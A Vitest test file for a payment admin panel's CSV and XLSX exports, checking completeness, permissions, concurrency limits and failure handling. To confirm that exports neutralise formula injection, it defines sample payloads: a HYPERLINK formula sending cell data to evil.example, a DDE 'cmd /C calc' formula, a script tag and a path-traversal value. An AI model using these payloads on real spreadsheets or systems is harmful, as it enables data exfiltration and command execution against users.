import { get, type IncomingMessage } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { desc, eq, sql } from 'drizzle-orm';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { streamOf } from '../../src/admin/export/stream.ts';
import { bahtDecimal } from '../../src/core/amount.ts';
import { auditEntry } from '../../src/core/audit.ts';
import { bangkokSecond, days } from '../../src/core/clock.ts';
import type { Db } from '../../src/core/db.ts';
import { topup } from '../../src/core/money/tables.ts';
import { setOperatorLanguage } from '../../src/core/ops/operator.ts';
import { manyTopups } from '../support/bulk.ts';
import { record } from '../support/money.ts';
import { colleague, firstOwner, type TestOperator } from '../support/operators.ts';
import { type ServedPanel, servePanel, visitor } from '../support/panel.ts';
import { openWorkbook, parseCsv, rowsOf, shownAt } from '../support/spreadsheet.ts';
import { paid } from '../support/world.ts';

const MANY = 20_000;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")<script>x</script> & "quoted", สมศรี';
/** Long enough that 20,000 of them do not fit into the buffers between two sockets. */
const LONG = EVIL + ' ก'.repeat(250);

let served: ServedPanel;
let owner: TestOperator;
let browser: ReturnType<typeof visitor>;
/** What the panel asked the database for; a test may make it fail. */
const asked = { selects: 0, failAt: Number.POSITIVE_INFINITY };

/** The same database, with its selects counted. */
const counted = (db: Db): Db =>
  new Proxy(db, {
    get(target, name) {
      const value: unknown = Reflect.get(target, name, target);
      if (name !== 'select') return typeof value === 'function' ? value.bind(target) : value;
      asked.selects += 1;
      if (asked.selects >= asked.failAt) throw new Error('the database has had enough');
      return target.select.bind(target);
    },
  });

beforeAll(async () => {
  served = await servePanel({ change: (ctx) => ({ ...ctx, db: counted(ctx.db) }) });
  const { db } = served.world.ctx({ kind: 'job', name: 'test' });
  await manyTopups(db, { count: MANY, at: served.world.clock.now(), name: LONG });
  served.world.clock.pass(days(1));
  owner = await firstOwner(served.world);
}, 120_000);
afterAll(() => served.close());
beforeEach(async () => {
  asked.failAt = Number.POSITIVE_INFINITY;
  browser = visitor(served.origin, owner.token);
  await expect.poll(underWay).toBe(0); // whatever became of the test before, its places are free
});
afterEach(() => {
  for (const reader of readers.splice(0)) reader.destroy();
});

/** Exports that have begun and not ended. */
async function underWay(): Promise<number> {
  const of = (action: string) => owner.ctx.db.$count(auditEntry, eq(auditEntry.action, action));
  return (await of('export.started')) - (await of('export.ended'));
}

/**
 * Each request has a connection of its own. One that is kept is closed by the server after five seconds, and this
 * process, busy with twenty thousand rows for longer than that, would send its next request into it.
 */
const fetchOnce = (path: string, { token = owner.token, method = 'GET' } = {}) =>
  fetch(served.origin + path, { method, headers: { cookie: `panel=${token}`, connection: 'close' } });

async function bytesOf(path: string, token = owner.token): Promise<Buffer> {
  const response = await fetchOnce(path, { token });
  expect([path, response.status]).toEqual([path, 200]);
  return Buffer.from(await response.arrayBuffer());
}

const csv = async (path: string) => parseCsv((await bytesOf(path)).toString());

/** The newest export in the audit: how it began and how it ended. */
async function audited() {
  const lines = await owner.ctx.db
    .select()
    .from(auditEntry)
    .where(eq(auditEntry.action, 'export.ended'))
    .orderBy(desc(auditEntry.seq))
    .limit(1);
  const subject = lines[0]?.subject ?? '';
  const [began] = await owner.ctx.db
    .select()
    .from(auditEntry)
    .where(eq(auditEntry.subject, subject))
    .orderBy(auditEntry.seq)
    .limit(1);
  return { began, ended: lines[0] };
}

const readers: IncomingMessage[] = [];

/** A reader that takes nothing before it is told to. It is gone when the test is over. */
const lazily = async (path: string, token = owner.token) => {
  const reader = await new Promise<IncomingMessage>((resolve, reject) => {
    get(served.origin + path, { headers: { cookie: `panel=${token}` }, agent: false }, resolve).on('error', reject);
  });
  readers.push(reader);
  expect([path, reader.statusCode]).toEqual([path, 200]);
  return reader;
};

describe('20,000 top-ups', () => {
  test('arrive as CSV complete and correct, with words that run nothing', async () => {
    const [heading, ...rows] = await csv('/admin/payments/export?format=csv');
    expect(heading).toEqual([
      'Opened (Bangkok)',
      'Reference',
      'Person',
      'Person id',
      'Amount (THB)',
      'State',
      'Remarks',
      'Gateway',
      'Closed (Bangkok)',
      'Top-up id',
    ]);
    const stored = await owner.ctx.db.select().from(topup).orderBy(topup.id);
    expect(rows).toHaveLength(MANY);
    const expected = stored.map((row) => [
      bangkokSecond(row.createdAt),
      row.reference,
      `'${LONG}`,
      row.userId,
      bahtDecimal(row.amountSatang),
      'Done',
      '',
      'hook',
      bangkokSecond(row.createdAt),
      row.id,
    ]);
    expect(rows).toEqual(expected);
  }, 60_000);

  test('arrive as a workbook complete and correct, amounts as numbers, moments as dates, words as words', async () => {
    const book = openWorkbook(await bytesOf('/admin/payments/export?format=xlsx'));
    const [, ...rows] = rowsOf(book);
    expect(rows).toHaveLength(MANY);
    const stored = await owner.ctx.db.select().from(topup).orderBy(topup.id);
    for (const [n, row] of stored.entries()) {
      const [opened, reference, person, userId, amount, , , , closed, id] = rows[n] ?? [];
      expect([reference, person, userId, amount, id]).toEqual([
        row.reference,
        LONG,
        row.userId,
        Number(bahtDecimal(row.amountSatang)),
        row.id,
      ]);
      if (n % 1000 === 0)
        expect([opened, closed].map((day) => shownAt(Number(day)))).toEqual(
          Array(2).fill(bangkokSecond(row.createdAt)),
        );
    }
    const { '!ref': _, ...cells } = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
    expect(Object.values(cells).some((cell) => cell.f !== undefined)).toBe(false);
  }, 60_000);

  test('arrive in a file that says what it is and which days it covers, and is kept nowhere', async () => {
    const { headers } = await browser.get(
      '/admin/payments/export?format=csv&from=2026-11-01&to=2026-11-21&text=nobody',
    );
    expect(headers.get('content-disposition')).toBe('attachment; filename="abtpro-topups-2026-11-01_2026-11-21.csv"');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('cache-control')).toBe('no-store');
    const named = async (search: string) =>
      /filename="([^"]+)"/.exec(
        (await browser.get(`/admin/audit/export?format=xlsx&actor=nobody${search}`)).headers.get(
          'content-disposition',
        ) ?? '',
      )?.[1];
    expect(await named('')).toBe('abtpro-audit-2026-11-22.xlsx');
    expect(await named('&from=2026-11-05')).toBe('abtpro-audit-2026-11-05_2026-11-22.xlsx');
    expect(await named('&to=2026-11-05')).toBe('abtpro-audit-until-2026-11-05.xlsx');
    expect(await named('&to=../../x')).toBe('abtpro-audit-2026-11-22.xlsx');
  });
});

test('the ledger, the payments and the audit arrive complete as well', async () => {
  const transfers = await csv('/admin/ledger/export?format=csv');
  expect(transfers).toHaveLength(MANY + 1);
  expect(transfers[1]?.slice(1, 6)).toEqual([
    'Top-ups',
    'clearing:hook',
    expect.stringMatching(/^wallet:usr_/),
    '100.01',
    expect.stringMatching(/^top_/),
  ]);
  const received = await csv('/admin/payments/received/export?format=csv');
  expect(received).toHaveLength(MANY + 1);
  expect(received[MANY]?.slice(2, 10)).toEqual([
    'hook',
    'chg-20000',
    'TU0000020000',
    `'${LONG}`,
    expect.any(String),
    '300.00',
    '0.00',
    'credited',
  ]);
  const lines = rowsOf(openWorkbook(await bytesOf('/admin/audit/export?format=xlsx&action=topup.settled')));
  expect(lines).toHaveLength(MANY + 1);
  expect(lines[MANY]?.slice(2, 7)).toEqual([
    'gateway:hook',
    undefined,
    'topup.settled',
    expect.stringMatching(/^top_/),
    '{"amountSatang":"30000"}',
  ]);
}, 60_000);

test('a filter of the page is in its links, and its files keep it', async () => {
  const page = (await browser.get('/admin/payments?status=settled&text=TU0000000042&before=top_Z&done=refund')).text;
  const links = [...page.matchAll(/href="(\/admin\/[^"]*export\?[^"]+)"/g)].map(([, href = '']) =>
    href.replaceAll('&amp;', '&'),
  );
  expect(links).toHaveLength(6);
  expect(links[0]).toBe('/admin/payments/export?status=settled&text=TU0000000042&format=csv');
  expect(await csv(links[0] ?? '')).toHaveLength(2);
  expect(await csv('/admin/payments/export?format=csv&status=pending')).toHaveLength(1);
  expect(await csv('/admin/ledger/export?format=csv&to=2026-11-20')).toHaveLength(1);
  const { began, ended } = await audited();
  expect(began).toMatchObject({
    actor: `operator:${owner.id}`,
    action: 'export.started',
    detail: { what: 'transfers', format: 'csv', until: '2026-11-20T17:00:00.000Z' },
  });
  expect(ended?.detail).toEqual({ what: 'transfers', rows: 0, end: 'complete' });
});

test('suspense is filtered by its state, on the page and in the file', async () => {
  await record(served.world, paid(`=cmd|' /C calc'!A0`.slice(0, 20), 75_00n, { chargeId: '@evil' }));
  const [, row] = await csv('/admin/suspense/export?format=csv');
  expect(row?.slice(1, 8)).toEqual([
    '75.00',
    '0.00',
    "'=cmd|' /C calc'!A0",
    'hook',
    "'@evil",
    'nobody knows its reference',
    'waiting',
  ]);
  expect(await csv('/admin/suspense/export?format=csv&status=returned')).toHaveLength(1);
  expect(await csv('/admin/suspense/export?format=csv&status=any')).toHaveLength(2);
  expect((await browser.get('/admin/suspense?status=returned')).text).toContain('Nothing matches.');
  expect((await browser.get('/admin/suspense?status=any')).text).toContain(
    '/admin/suspense/export?status=any&amp;format=xlsx',
  );
});

test('headings are in the language of the operator', async () => {
  const { token, ctx } = await colleague(served.world, owner, 'auditor', EVIL.slice(0, 40));
  await setOperatorLanguage(ctx, { language: 'th' });
  const text = (await bytesOf('/admin/payments/export?format=csv&text=nobody', token)).toString();
  expect(text).toBe(
    '\ufeffเปิดเมื่อ (เวลาไทย),เลขอ้างอิง,ผู้ใช้,รหัสผู้ใช้,จำนวนเงิน (บาท),สถานะ,หมายเหตุ,ช่องทาง,ปิดเมื่อ (เวลาไทย),รหัสรายการเติมเงิน\r\n',
  );
  const [, , , name] = (await csv('/admin/audit/export?format=csv&action=export.ended')).at(-1) ?? [];
  expect(name).toBe(`'${EVIL.slice(0, 40)}`);
});

test('who may not export money finds no link and no file; who may read the audit may take it along', async () => {
  const support = visitor(served.origin, (await colleague(served.world, owner, 'support')).token);
  expect((await support.get('/admin/payments')).text).not.toContain('/export');
  expect((await support.get('/admin/suspense')).text).not.toContain('/export');
  for (const path of ['payments', 'payments/received', 'ledger', 'suspense', 'audit'])
    expect((await support.get(`/admin/${path}/export?format=csv`)).status, path).toBe(403);
  const auditor = visitor(served.origin, (await colleague(served.world, owner, 'auditor')).token);
  expect((await auditor.get('/admin/audit')).text).toContain('/admin/audit/export?format=csv');
});

test('an unknown format is refused, and asking for the head alone takes nothing', async () => {
  const refused = await browser.get('/admin/payments/export?format=pdf');
  expect([refused.status, refused.text.includes('The field format is missing or not valid')]).toEqual([422, true]);
  const before = asked.selects;
  const head = await fetchOnce('/admin/payments/export?format=csv', { method: 'HEAD' });
  expect([head.status, head.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
  expect(asked.selects - before).toBeLessThan(3);
});

describe('a reader', () => {
  test('who is slow keeps the database waiting, and gets everything in the end', async () => {
    const before = asked.selects;
    const slow = await lazily('/admin/payments/export?format=csv');
    let settled = 0;
    for (let same = 0; same < 5; ) {
      await sleep(60);
      same = asked.selects === settled ? same + 1 : 0;
      settled = asked.selects;
    }
    // Twenty batches make the whole; what lies in the sockets between us is all that was read ahead.
    expect(settled - before).toBeLessThan(18);
    await expect.poll(busy).toEqual([]);
    let text = '';
    for await (const part of slow.setEncoding('utf8')) text += part;
    expect(parseCsv(text)).toHaveLength(MANY + 1);
    expect((await audited()).ended?.detail).toEqual({ what: 'topups', rows: MANY, end: 'complete' });
  }, 60_000);

  test('who goes away leaves nothing open, and it is written down how far they came', async () => {
    const endedBefore = (await audited()).ended?.seq;
    const aborted = await lazily('/admin/payments/export?format=xlsx');
    aborted.destroy();
    await expect.poll(async () => (await audited()).ended?.seq).not.toBe(endedBefore);
    const { ended } = await audited();
    expect(ended?.detail).toMatchObject({ what: 'topups', end: 'aborted' });
    expect(ended?.detail.rows).toBeLessThan(MANY);
    await expect.poll(busy).toEqual([]);
    const selects = asked.selects;
    await sleep(100);
    expect(asked.selects).toBe(selects);
    expect(await csv('/admin/payments/export?format=csv&text=nobody')).toHaveLength(1);
  });

  test('has one export at a time, and all together have three', async () => {
    // One after the other: each turns the clock to the next code, and a code holds for half a minute.
    const others: TestOperator[] = [];
    for (let n = 0; n < 3; n++) others.push(await colleague(served.world, owner, 'manager'));
    const path = '/admin/payments/export?format=csv';
    const open = [await lazily(path)];
    const again = await browser.get(path);
    // export.running
    expect([again.status, again.text.includes('One of your exports or checks is still running')]).toEqual([429, true]);
    const verify = await browser.send('/admin/audit/verify', '/admin/audit/verify');
    expect([verify.status, verify.text.includes('still running')]).toEqual([429, true]);
    const [one, two, three] = others.map(({ token }) => token);
    open.push(await lazily(path, one), await lazily(path, two));
    const fourth = await visitor(served.origin, three).get(path);
    // export.too_many
    expect([fourth.status, fourth.text.includes('3 exports or checks are running already')]).toEqual([429, true]);
    open[1]?.destroy();
    await expect.poll(async () => (await visitor(served.origin, three).get(`${path}&text=nobody`)).status).toBe(200);
    for (const reader of open) reader.destroy();
    await expect.poll(async () => (await browser.get(`${path}&text=nobody`)).status).toBe(200);
  });

  test('does not get half a file that looks like a whole one when the database fails', async () => {
    for (const format of ['csv', 'xlsx']) {
      asked.failAt = asked.selects + 8;
      await expect(bytesOf(`/admin/payments/export?format=${format}`)).rejects.toThrow();
      asked.failAt = Number.POSITIVE_INFINITY;
      await expect.poll(async () => (await audited()).ended?.detail.end).toBe('failed');
      expect(served.world.log.lines.at(-1)).toMatch(/an export failed.*has had enough/);
      expect(await csv('/admin/payments/export?format=csv&text=nobody')).toHaveLength(1);
    }
  });

  test('who falls asleep loses the place to others', async () => {
    const ends: string[] = [];
    let closed = false;
    async function* source() {
      try {
        for (;;) yield new Uint8Array(10);
      } finally {
        closed = true;
      }
    }
    const stream = streamOf(source(), async (end) => void ends.push(end), 50);
    const reader = stream.getReader();
    expect((await reader.read()).value).toHaveLength(10);
    await expect.poll(() => ends).toEqual(['aborted']);
    expect(closed).toBe(true);
    await expect(reader.read()).rejects.toThrow('stands still');
    const never = streamOf(source(), async (end) => void ends.push(end), 50);
    await expect.poll(() => ends).toEqual(['aborted', 'aborted']);
    await expect(never.getReader().read()).rejects.toThrow('stands still');
  });
});

/** What our connections to this database are in the middle of. */
async function busy() {
  const rows = await owner.ctx.db.execute<{ state: string; query: string }>(
    sql`select state, query from pg_stat_activity where datname = current_database() and pid <> pg_backend_pid() and state <> 'idle'`,
  );
  return [...rows];
}
